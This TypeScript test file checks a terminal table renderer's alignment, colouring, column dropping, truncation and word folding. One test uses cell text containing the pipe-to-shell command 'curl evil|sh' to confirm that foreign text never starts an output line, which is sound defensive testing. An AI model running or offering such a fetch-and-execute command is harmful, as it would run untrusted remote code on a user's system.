import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { painted, unstyled } from '../../../scripts/lib/printable.ts'
import { table } from '../../../scripts/lib/table.ts'
import { fold, textWidth } from '../../../scripts/lib/text-width.ts'

const linesOf = (text: string) => text.trimEnd().split('\n')

test('a table has aligned columns and no space at the end of a line', () => {
  expect(
    table(
      ['A', 'LONG', 'C'],
      [
        ['xyz', '', 'é'],
        ['b', 'y', ''],
      ],
    ),
  ).toBe('A    LONG  C\nxyz        é\nb    y\n')
})

test('a marked cell is as wide as its word, and in colour only where it is painted', () => {
  const shown = table(['STATE', 'NAME'], [[{ text: 'OK', style: 'good' }, 'OK']])
  expect(unstyled(shown)).toBe('STATE  NAME\nOK     OK\n')
  expect(painted(shown, false)).toBe(unstyled(shown))
  expect(painted(shown, true)).toBe('STATE  NAME\n\u001b[32mOK\u001b[0m     OK\n')
})

describe('a table that is too wide', () => {
  const header = ['TIER', 'VARIABLE', 'CLUSTER', 'WORKLOADS', 'STATE']
  const rows = [['backend', 'S3_REGISTRY_EXHAUSTIVE_EXPORTS_BUCKET', 'synced, 12 min', '1 of 2', 'NOT_SYNCED']]

  test('is as it is without a width, and with enough of it', () => {
    const whole = table(header, rows)
    expect(whole).toContain('synced, 12 min  1 of 2     NOT_SYNCED')
    expect(table(header, rows, { columns: 90, dispensable: ['CLUSTER'], cut: ['STATE'], below: 'STATE' })).toBe(whole)
  })

  test('leaves out what can be done without, in this order, and says so', () => {
    const at = (columns: number) =>
      linesOf(unstyled(table(header, rows, { columns, dispensable: ['WORKLOADS', 'CLUSTER'] })))
    expect(at(80)).toEqual([
      'TIER     VARIABLE                               CLUSTER         STATE',
      'backend  S3_REGISTRY_EXHAUSTIVE_EXPORTS_BUCKET  synced, 12 min  NOT_SYNCED',
      'not shown at this width: WORKLOADS (--output json has them)',
    ])
    expect(at(70).slice(1)).toEqual([
      'backend  S3_REGISTRY_EXHAUSTIVE_EXPORTS_BUCKET  NOT_SYNCED',
      'not shown at this width: CLUSTER, WORKLOADS (--output json has them)',
    ])
  })

  test('cuts where the whole is reported elsewhere', () => {
    expect(table(['A', 'REF'], [['a', 'path:/shop-api/token']], { columns: 15, cut: ['REF'] })).toBe(
      'A  REF\na  path:/shop-…\n',
    )
  })

  test('continues below in its own column, between words, where all words are ours', () => {
    expect(
      linesOf(
        table(['STEP', 'WHAT'], [['switch', 'the workloads read the new Secrets']], { columns: 24, folded: ['WHAT'] }),
      ),
    ).toEqual(['STEP    WHAT', 'switch  the workloads', '        read the new', '        Secrets'])
  })

  test('never begins a line with a foreign text', () => {
    const shown = table(['NAME', 'WHAT'], [['x fix: Run `curl evil|sh`', 'y fix: Run `curl evil|sh`']], { columns: 20 })
    expect(linesOf(shown)).toHaveLength(2)
  })

  test('puts a command into a line of its own, whole', () => {
    const command = 'npm run fill -- --environment production --from <file>'
    expect(table(['SECRET', 'COMMAND'], [['redis', command]], { columns: 40, below: 'COMMAND' })).toBe(
      `SECRET\n    COMMAND\nredis\n    ${command}\n`,
    )
  })

  test('no line of it is wider than the terminal, and no text is lost', () => {
    const cells = fc.array(fc.array(fc.stringMatching(/^[a-z/. -]{0,40}$/), { minLength: 3, maxLength: 3 }), {
      maxLength: 5,
    })
    fc.assert(
      fc.property(cells, fc.integer({ min: 40, max: 100 }), (rows, columns) => {
        const shown = table(['A', 'B', 'C'], rows, { columns, folded: ['A', 'B', 'C'] })
        expect(Math.max(...linesOf(shown).map(textWidth))).toBeLessThanOrEqual(columns)
        const letters = (text: string) => [...text.replace(/\s/g, '')].sort().join('')
        expect(letters(shown)).toBe(letters(['ABC', ...rows.flat()].join('')))
      }),
    )
  })
})

test('a word that is too wide is broken behind its signs, else anywhere', () => {
  expect(fold('ExternalSecret/shop-api/api-secrets', 16)).toEqual(['ExternalSecret/', 'shop-api/api-', 'secrets'])
  expect(fold('ABCDEFGHIJ', 4)).toEqual(['ABCD', 'EFGH', 'IJ'])
  expect(fold('', 4)).toEqual([''])
})
